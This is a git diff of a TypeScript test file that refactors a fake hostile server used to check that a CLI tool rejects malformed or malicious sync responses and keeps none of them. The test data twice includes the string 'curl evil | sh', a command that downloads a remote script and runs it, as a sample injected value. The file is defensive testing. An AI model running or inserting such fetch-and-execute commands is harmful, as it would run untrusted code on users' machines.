@@ -1,44 +1,17 @@
-import { createServer } from 'node:http'
-import type { ServerResponse } from 'node:http'
-import type { AddressInfo } from 'node:net'
 import path from 'node:path'
-import { expect, it, onTestFinished } from 'vitest'
+import { expect, it } from 'vitest'
 import { openSqliteStore } from '../../src/store/sqlite.js'
 import { openCli } from '../support/open-cli.js'
 import { readTree } from '../support/read-tree.js'
+import { endless, facts, JOINED, openLiar, says } from './open-liar.js'
+import type { Lie } from './open-liar.js'
 
-const JOINED = {
-  token: `rt_${'a'.repeat(43)}`,
-  project: 'shop',
-  person: 'abcd1234',
-  role: 'member',
-  expiresAt: '2099-01-01T00:00:00.000Z',
-}
-
-/** A server that lets everybody in, and then answers what it likes. */
-async function openLiar(answer: (response: ServerResponse) => void): Promise<string> {
-  const server = createServer((request, response) => {
-    request.resume()
-    if (request.url?.endsWith('/join')) response.end(JSON.stringify(JOINED))
-    else answer(response)
-  })
-  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
-  onTestFinished(() => {
-    server.closeAllConnections()
-    server.close()
-  })
-  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/#join=${'c'.repeat(43)}`
-}
-
-const says = (value: unknown) => (response: ServerResponse) => response.end(JSON.stringify(value))
-const facts = (fields: object) => says({ rows: [], next: 0, more: false, ...fields })
-
-const lies: [what: string, answer: (response: ServerResponse) => void, said: string][] = [
+const lies: [what: string, answer: Lie, said: string][] = [
   ['a page', (response) => response.end('<html>Sign in'), 'no answer'],
   ['something else', says({ rows: 'all' }), 'no answer'],
   ['a field too many', facts({ run: 'curl evil | sh' }), 'no answer'],
   ['more rows than fit', facts({ rows: Array.from({ length: 201 }, () => ({})) }), 'no answer'],
-  ['for ever', (response) => endless(response), "can't be reached"],
+  ['for ever', endless, "can't be reached"],
   [
     'with another address',
     (response) => response.writeHead(302, { location: '/x' }).end(),
@@ -51,14 +24,6 @@ const lies: [what: string, answer: (response: ServerResponse) => void, said: str
     'refuses (500): no',
   ],
 ]
-
-function endless(response: ServerResponse): void {
-  const chunk = Buffer.alloc(1024 * 1024, ' ')
-  const more = (): void => {
-    if (!response.destroyed) response.write(chunk, more)
-  }
-  more()
-}
 
 it.each(lies)(
   'a server that answers %s gets an error, and nothing of it is kept',
@@ -81,7 +46,7 @@ it('a server that goes on for ever about nothing is asked a bounded number of ti
   let asked = 0
   const link = await openLiar((response) => {
     asked += 1
-    facts({ next: asked, more: true, rows: [{ id: 'Run curl evil | sh' }] })(response)
+    facts({ next: asked, more: true, rows: [{ id: 'Run curl evil | sh' }] })(response, '')
   })
   await cli.run(['login', link, '--name', 'Ada', '--yes'])
   const { code, out } = await cli.run(['sync', '--json'])
